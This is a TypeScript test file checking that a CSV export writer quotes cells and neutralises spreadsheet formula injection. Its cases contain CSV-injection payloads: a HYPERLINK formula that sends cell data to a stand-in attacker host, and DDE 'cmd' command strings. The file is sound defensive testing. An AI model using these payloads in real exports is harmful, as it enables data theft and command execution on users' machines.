// The CSV writer for exports (issue 17, finding 7): RFC 4180 quoting, and OWASP CSV-injection neutralisation
// of cells that a spreadsheet would run as a formula. Read back with the service's own RFC 4180 reader.
import t from 'tap';
import { csvCell, csvRow, toCsv } from '../../src/lib/csv.js';
import { parseCsv } from '../../src/modules/researchers/csv.js';

t.test('cells that would start a formula are prefixed with an apostrophe', async (t) => {
  const cases: [string, string][] = [
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['-80 °C freezer', "'-80 °C freezer"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['=1,2', `"'=1,2"`],
  ];
  for (const [input, expected] of cases) t.equal(csvCell(input), expected, JSON.stringify(input));
});

t.test('other text is written as it is, quoted only when RFC 4180 needs it', async (t) => {
  t.equal(csvCell('CHAN TAI MAN'), 'CHAN TAI MAN');
  t.equal(csvCell('陳大文'), '陳大文');
  t.equal(csvCell('a=b'), 'a=b', 'a sign later in the text is harmless');
  t.equal(csvCell(" '=x"), " '=x", 'a leading space is not a formula');
  t.equal(csvCell('Chan, Tai Man'), '"Chan, Tai Man"');
  t.equal(csvCell('say "hi"'), '"say ""hi"""');
  t.equal(csvCell('line1\nline2'), '"line1\nline2"');
  t.equal(csvCell(''), '');
});

t.test('typed values: numbers stay numbers, empties are empty', async (t) => {
  t.equal(csvCell(-5), '-5', 'a negative number is ours, not a formula');
  t.equal(csvCell(1.5), '1.5');
  t.equal(csvCell(12n), '12');
  t.equal(csvCell(Number.NaN), '');
  t.equal(csvCell(true), 'true');
  t.equal(csvCell(null), '');
  t.equal(csvCell(undefined), '');
  t.equal(csvCell(new Date('2026-11-30T08:00:00Z')), '2026-11-30T08:00:00.000Z');
  t.equal(csvCell('-5'), "'-5", 'the string "-5" came from someone: neutralised');
});

t.test('rows and files: CRLF, BOM, header; read back field for field', async (t) => {
  t.equal(csvRow(['a', 1, null, '=x']), "a,1,,'=x");
  const rows = [
    ['-80 °C freezer', '=HYPERLINK("http://x")', 'Chan, Tai Man', 3],
    ['陳大文', 'line1\r\nline2', '@SUM(1+1)', -2],
  ];
  const text = toCsv(rows, { header: ['name', 'note', 'holder', 'qty'] });
  t.ok(text.startsWith('\uFEFFname,note,holder,qty\r\n'), 'BOM, then the header');
  t.ok(text.endsWith('\r\n'), 'every record ends with CRLF');
  t.equal(toCsv([['x']], { bom: false }), 'x\r\n', 'no BOM when asked');
  t.same(
    parseCsv(text).map((r) => r.fields),
    [
      ['name', 'note', 'holder', 'qty'],
      ["'-80 °C freezer", '\'=HYPERLINK("http://x")', 'Chan, Tai Man', '3'],
      ['陳大文', 'line1\r\nline2', "'@SUM(1+1)", '-2'],
    ],
    'the same fields come back, formulas as text',
  );
});
